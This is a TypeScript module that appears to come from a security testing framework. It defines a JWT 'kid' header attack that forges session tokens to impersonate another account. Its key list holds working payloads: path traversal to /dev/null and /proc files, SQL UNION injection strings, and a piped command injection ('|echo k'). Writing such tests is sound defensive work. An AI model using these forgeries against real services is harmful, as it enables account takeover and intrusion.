import { defineAttack } from '../../src/contract/attack.ts'
import type { Json } from '../../src/contract/json.ts'
import { type ForgedJwts, type Forgery, type Holder, judgeForgedJwts, observeForgedJwts } from '../kit/forged-jwt.ts'
import { payloadFor } from '../kit/jwt.ts'
import { signedWithSecret } from '../kit/sign.ts'

/** Key ids that lead a look-up astray, with the secret it would then find. */
const KEYS: readonly (readonly [string, Json, string])[] = [
  ['a device without content', '/dev/null', ''],
  ['a device, by parent folders', '../../../../../../../../../../dev/null', ''],
  ['a device, backslashes', '..\\..\\..\\..\\dev\\null', ''],
  ['a file everybody has', '/proc/sys/kernel/randomize_va_space', '2\n'],
  ['a file everybody has, by parent folders', '../../../../../../../../../../proc/sys/kernel/randomize_va_space', '2\n'],
  ['SQL that answers a key of ours', "x' UNION SELECT 'k' -- ", 'k'],
  ['SQL that answers a key of ours, numbered', "0' UNION ALL SELECT 'k' LIMIT 1 -- ", 'k'],
  ['unknown, empty secret', 'no-such-key', ''],
  ['empty', '', ''],
  ['null', null, ''],
  ['a list', ['k1'], ''],
  ['a command', '|echo k', 'k\n'],
  ['ten thousand characters', 'k'.repeat(2000), ''],
]

export default defineAttack<ForgedJwts>({
  meta: {
    id: 'ft-jwt-kid',
    family: 'forged-token',
    title: 'Session JWT that names its key by a path or a query',
    about:
      "Rewrites an own session token so that its key id leads to a file or a query whose answer is known, and signs with that. Success means that the attacker chooses the key, and with it anybody's account.",
    severity: 'critical',
    cwe: [22, 89, 78],
    asvs: ['9.1.3', '1.2.4'],
    api2023: ['API2', 'API8'],
    has: 'an own session token; the victim is named by account id, which is no secret',
    needs: ['oneTap', 'me'],
    notices: ['jwt-signature=jwt-kid-lookup', 'jwt-signature=unverified'],
  },

  observe: lab => observeForgedJwts(lab, misled),

  judge: observation => judgeForgedJwts(observation, 'Session tokens with a misleading key id'),
})

function misled(own: Holder, victim: Holder): Forgery[] {
  const payload = payloadFor(own.jwt, own.account, victim.jwt, victim.account)
  return KEYS.map(([name, kid, secret]) => ({
    name: `kid ${name}`,
    credential: signedWithSecret(own.jwt, { kid }, payload, secret),
  }))
}
